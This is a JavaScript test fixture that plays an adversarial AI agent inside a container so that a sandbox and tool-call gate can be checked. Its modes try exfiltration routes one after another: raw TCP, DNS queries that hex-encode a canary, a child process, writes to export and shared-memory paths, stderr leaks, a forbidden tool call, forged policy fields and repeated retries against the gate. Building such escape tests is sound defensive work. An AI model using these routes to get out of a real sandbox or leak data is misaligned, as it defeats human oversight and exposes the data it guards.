// The adversarial agent. It reads the orchestrator's initial payload (first stdin line) and,
// depending on `mode`, tries every route out of the container it knows, or one failure case.
// Payload: {"canary": str, "mode": str, "targets": {"v4":[host,port], "v6":[host,port],
//           "bridge":[host,port], "dns":[[host,port],...]}}
import net from 'node:net';
import dgram from 'node:dgram';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
let inbuf = '';
const replies = [];
let waiter = null;
let payload = null;

// A frame written as soon as the agent runs, before any payload (AGENT_EARLY_FRAME in its
// environment), then exit: the bridge must not handle it before its second admission check.
if (process.env.AGENT_EARLY_FRAME) {
  const line = JSON.stringify({ operation: 'notify', arguments: { message: process.env.AGENT_EARLY_FRAME } }) + '\n';
  process.stdout.write(line, () => process.exit(0));
}

process.stdin.on('data', (d) => {
  inbuf += d.toString();
  let nl;
  while ((nl = inbuf.indexOf('\n')) !== -1) {
    const line = inbuf.slice(0, nl);
    inbuf = inbuf.slice(nl + 1);
    if (!payload) {
      payload = JSON.parse(line);
      main().catch(() => process.exit(3));
    } else {
      replies.push(JSON.parse(line));
      if (waiter) waiter();
    }
  }
});

async function nextReply(timeout = 20000) {
  const t0 = Date.now();
  while (!replies.length) {
    if (Date.now() - t0 > timeout) return null;
    await new Promise((r) => {
      waiter = r;
      setTimeout(r, 200);
    });
  }
  return replies.shift();
}

function frame(operation, args) {
  process.stdout.write(JSON.stringify({ operation, arguments: args }) + '\n');
}

function tcp(host, port, data) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    const done = (ok) => {
      s.destroy();
      resolve(ok);
    };
    s.setTimeout(1500, () => done(false));
    s.on('connect', () => s.end(data, () => setTimeout(() => done(true), 100)));
    s.on('error', () => done(false));
  });
}

function dnsQuestion(name) {
  const labels = name.split('.').filter(Boolean);
  const parts = [Buffer.from([0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
  for (const l of labels) parts.push(Buffer.from([l.length]), Buffer.from(l));
  parts.push(Buffer.from([0, 0, 1, 0, 1]));
  return Buffer.concat(parts);
}

function udp(host, port, data) {
  return new Promise((resolve) => {
    try {
      const s = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
      s.on('error', () => resolve(false));
      s.send(data, port, host, (err) => {
        s.close();
        resolve(!err);
      });
    } catch {
      resolve(false);
    }
  });
}

async function network(tag, canary, targets) {
  const data = `${tag}:${canary}`;
  const jobs = [];
  for (const k of ['v4', 'v6', 'bridge']) if (targets[k]) jobs.push(tcp(targets[k][0], targets[k][1], data));
  const hex = Buffer.from(canary).toString('hex').slice(0, 60);
  for (const [h, p] of targets.dns ?? []) jobs.push(udp(h, p, dnsQuestion(`${hex}.exfil.test`)));
  await Promise.all(jobs);
}

async function everyRoute(p) {
  // Network: direct TCP v4/v6/bridge and a DNS question, from us and from a child process.
  await network('agent', p.canary, p.targets);
  await new Promise((resolve) => {
    const c = spawn(process.execPath, ['/agent/child.mjs', JSON.stringify(p)], { stdio: 'ignore' });
    c.on('exit', resolve);
    c.on('error', resolve);
  });
  // A file on the export path.
  try {
    writeFileSync('/export/canary.txt', p.canary);
  } catch {}
  // stderr (the bridge counts it; the log driver must not keep it).
  process.stderr.write(`leak:${p.canary}\n`);
  // The permitted tool, then one whose ceiling is too low.
  frame('notify', { message: p.canary });
  await nextReply();
  frame('publish', { message: p.canary });
  await nextReply();
}

async function main() {
  const p = payload;
  switch (p.mode) {
    case 'baseline':
      await everyRoute(p);
      // Finally a frame carrying policy fields: the session must stop here.
      process.stdout.write(JSON.stringify({ operation: 'publish', arguments: { message: p.canary }, tool: 'send_update', ceiling: 'restricted' }) + '\n');
      await sleep(30000);
      return;
    case 'polite':
      frame('notify', { message: p.canary });
      await nextReply();
      process.exit(0);
    case 'malformed':
      process.stdout.write(`not a frame ${p.canary}\n`);
      await sleep(30000);
      return;
    case 'policy':
      process.stdout.write(JSON.stringify({ operation: 'notify', arguments: { message: p.canary }, label: 'public', call_id: 7 }) + '\n');
      await sleep(30000);
      return;
    case 'oversized':
      process.stdout.write(JSON.stringify({ operation: 'notify', arguments: { message: p.canary + 'x'.repeat(70 * 1024) } }) + '\n');
      await sleep(30000);
      return;
    case 'stderr_flood': {
      const chunk = Buffer.alloc(64 * 1024, 0x41);
      for (let i = 0; i < 24; i++) process.stderr.write(chunk);
      await sleep(3000);
      frame('notify', { message: p.canary });
      await sleep(30000);
      return;
    }
    case 'crash':
      process.abort();
    case 'exit_nonzero':
      process.exit(5);
    case 'many_calls':
      for (let i = 0; i < (p.count ?? 3); i++) {
        frame('notify', { message: `n${i}` });
        await nextReply();
      }
      process.exit(0);
    case 'pipeline':
      // Several requests at once; replies reported back through a last call's arguments.
      for (const m of p.messages) frame(m[0], { message: m[1] });
      for (let i = 0; i < p.messages.length; i++) await nextReply(60000);
      process.exit(0);
    case 'sequence':
      for (const m of p.messages) {
        frame(m[0], { message: m[1] });
        await nextReply(60000);
      }
      process.exit(0);
    case 'until_allowed':
      // A first call, then one call repeated until the gate allows it (live restriction cases).
      frame('notify', { message: p.first });
      await nextReply(60000);
      for (let i = 0; i < (p.count ?? 80); i++) {
        frame('notify', { message: p.canary });
        if ((await nextReply(60000))?.allowed) process.exit(0);
        await sleep(250);
      }
      process.exit(4);
    case 'shm':
      // A file in the container's own /dev/shm (a tmpfs of its IPC namespace), then wait.
      try {
        writeFileSync('/dev/shm/c', p.canary);
      } catch {}
      await sleep(600000);
      return;
    case 'notify_hold':
      frame('notify', { message: p.canary });
      await nextReply();
      await sleep(600000);
      return;
    case 'hold':
    default:
      await sleep(600000);
  }
}
